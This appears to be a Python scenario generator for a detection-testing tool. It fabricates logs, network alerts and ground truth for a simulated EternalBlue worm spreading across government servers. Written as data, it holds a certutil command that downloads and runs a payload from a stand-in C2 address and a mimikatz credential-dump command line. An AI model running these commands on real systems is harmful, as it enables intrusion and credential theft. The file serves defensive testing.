"""Seed case 4: government servers; an exposed SMB service, EternalBlue and stolen passwords.

``GW-SRV`` publishes SMB to the internet (a forgotten NAT rule): EternalBlue from outside gets
SYSTEM on it. The "EternalBlue downloader" then creates service after service, each a
random-named program in ``C:\\Windows`` (memory and CPU run out), dumps credentials and
worms on: EternalBlue takes ``OA-SRV`` and, from there, ``DB-SRV``; the dumped ``svc_backup``
password opens ``DOC-SRV``, where WMI starts the payload. ``HR-SRV`` is patched (probed
only, clean); ``ARCH-SRV`` came as hives only (unknown). The sensor (Suricata) logged a week
of 445 traffic from the infected servers.
"""

from __future__ import annotations

import datetime as dt
import random
from pathlib import Path

from deminer.scenarios.net_logs import MS17_010, Alert, Network
from deminer.scenarios.seed.common import Persist, Truth, resolve_names, utc
from deminer.scenarios.seed.hosts_windows import WinBox

ATTACKER, C2 = "203.0.113.200", "198.51.100.140"
START = utc("2024-02-19 08:00:00")
CONSONANTS = "bcdfghjklmnpqrstvwxz"
WMIPRVSE = r"C:\Windows\System32\wbem\WmiPrvSE.exe"


def random_names(seed: int, count: int) -> list[str]:
    """Service names as the downloader makes them: 8 lower-case consonants."""
    rng = random.Random(seed)
    return ["".join(rng.choice(CONSONANTS) for _ in range(8)) for _ in range(count)]


def _downloader(box: WinBox, at: dt.datetime, parent: str, truth: Truth, seed: int, count: int = 12) -> None:
    """One service per family payload, each an .exe of the same name in C:\\Windows."""
    box.process(at, r"C:\Windows\System32\cmd.exe",
                f"cmd.exe /c certutil -urlcache -split -f http://{C2}/dl.exe C:\\Windows\\Temp\\dl.exe && "
                "C:\\Windows\\Temp\\dl.exe", parent)
    items = []
    for i, name in enumerate(random_names(seed, count)):
        when = at + dt.timedelta(seconds=20 + 15 * i)
        box.service(when, name, f"C:\\Windows\\{name}.exe")
        box.file(f"C:\\Windows\\{name}.exe", 300_000 + 4096 * i, when, content_seed=f"family-{i}")
        items.append(Persist("service", name))
    truth.infect(box.name.lower(), at, *items)


def _exploit(net: Network, src: str, dst: str, at: dt.datetime, works: bool = True) -> None:
    net.now = at - dt.timedelta(seconds=15)
    c = net.conn(src, dst, 445, service="smb", duration=6.0, orig_bytes=125_000, resp_bytes=3_100,
                 orig_pkts=165, resp_pkts=38)
    for sig in MS17_010 if works else MS17_010[:2]:
        net.alerts.append(Alert(c.ts + dt.timedelta(seconds=1), c, sig, "smb"))


def build(out: Path, work: Path) -> Truth:
    truth = Truth(4, "Exposed SMB, EternalBlue worm with stolen passwords, services without end",
                  "service_rce")
    gw = WinBox("GW-SRV", "10.4.0.5", START)
    oa, db = WinBox("OA-SRV", "10.4.1.11", START), WinBox("DB-SRV", "10.4.1.13", START)
    doc = WinBox("DOC-SRV", "10.4.1.12", START)
    hr = WinBox("HR-SRV", "10.4.1.14", START, patched=True)
    arch = WinBox("ARCH-SRV", "10.4.1.15", START)
    for box, verdict in ((gw, "infected"), (oa, "infected"), (db, "infected"), (doc, "infected"),
                         (hr, "clean"), (arch, "unknown")):
        truth.host(box.name.lower(), box.ip, verdict)
    truth.patient_zero = {"gw-srv"}
    net = Network(start=START, seed=4, resolver="10.4.0.2")

    # 1. From the internet to GW-SRV's exposed 445.
    t_gw = utc("2024-02-19 23:10:00")
    _exploit(net, ATTACKER, gw.ip, t_gw)
    _downloader(gw, t_gw, r"C:\Windows\System32\lsass.exe", truth, seed=1)
    gw.process(t_gw + dt.timedelta(minutes=5), r"C:\Windows\Temp\mm.exe",
               r'C:\Windows\Temp\mm.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
               r"C:\Windows\System32\cmd.exe")

    # 2. EternalBlue inside: GW-SRV -> OA-SRV -> DB-SRV; HR-SRV is patched.
    for src, dst, at, seed in ((gw, oa, utc("2024-02-20 01:00:00"), 2),
                               (oa, db, utc("2024-02-20 03:00:00"), 3)):
        _exploit(net, src.ip, dst.ip, at)
        _downloader(dst, at, r"C:\Windows\System32\spoolsv.exe", truth, seed=seed)
        truth.edge(src.name.lower(), dst.name.lower(), "eternalblue", at)
    _exploit(net, gw.ip, hr.ip, utc("2024-02-20 01:05:00"), works=False)

    # 3. The stolen svc_backup password: a network logon to DOC-SRV, then WMI starts the payload.
    t_doc = utc("2024-02-20 01:30:00")
    doc.logon(t_doc - dt.timedelta(seconds=10), "svc_backup", gw.ip, workstation="GW-SRV")
    doc.process(t_doc, r"C:\Windows\System32\cmd.exe",
                f"cmd.exe /c certutil -urlcache -split -f http://{C2}/dl.exe C:\\Windows\\Temp\\dl.exe && "
                "C:\\Windows\\Temp\\dl.exe", WMIPRVSE, user="svc_backup")
    _downloader(doc, t_doc + dt.timedelta(seconds=30), r"C:\Windows\Temp\dl.exe", truth, seed=4)
    truth.infected_at["doc-srv"] = t_doc
    truth.edge("gw-srv", "doc-srv", "wmi_exec", t_doc)
    # svc_backup also logs on everywhere for the nightly backup (noise with the same account).
    for box in (gw, oa, db, doc, hr):
        box.logon(utc("2024-02-19 02:00:00"), "svc_backup", "10.4.1.15", workstation="ARCH-SRV")

    # A week of 445 from the infected servers (a sample of it), and their C2 downloads.
    for day in range(7):
        net.now = utc("2024-02-20 06:00:00") + dt.timedelta(days=day)
        for src in (gw, oa, db, doc):
            net.smb_worm(src.ip, "10.4.2.", count=30 if day == 0 else 6, answered=0, vulnerable=0)
    for src in (gw, oa, db, doc):
        h = net.conn(src.ip, C2, 80, service="http", duration=0.8, orig_bytes=210, resp_bytes=890_000,
                     orig_pkts=12, resp_pkts=640)
        h.extra["http"] = {"trans_depth": 1, "method": "GET", "host": C2, "uri": "/dl.exe", "version": "1.1",
                           "user_agent": "CertUtil URL Agent", "request_body_len": 0,
                           "response_body_len": 889_000, "status_code": 200, "status_msg": "OK",
                           "resp_mime_types": ["application/x-dosexec"]}

    resolve_names(net, arch.ip, {b.name.lower(): b.ip for b in (gw, oa, db, doc, hr, arch)})
    for box in (gw, oa, db, doc, hr):
        box.write(out)
    arch.write(out, logs=False)
    (out / "sensor").mkdir(parents=True, exist_ok=True)
    net.write_eve(out / "sensor" / "eve.json")

    for name in ("gw-srv", "oa-srv", "db-srv", "doc-srv"):
        truth.want(name, "execution.win_random_service_binary")
    truth.want("doc-srv", "lateral_movement.win_wmi_exec")
    for name in ("oa-srv", "db-srv"):
        truth.want(name, "lateral_movement.net_eternalblue_traits", needs="network")
    truth.want("gw-srv", "lateral_movement.net_worm_fanout", needs="network")
    truth.clean_may = {"lateral_movement.net_eternalblue_traits"}
    truth.notes.append("The WMI edge uses svc_backup, a real account that also logs on every night from "
                       "ARCH-SRV: only the logon from GW-SRV followed by WmiPrvSE starting the payload "
                       "counts.")
    return truth
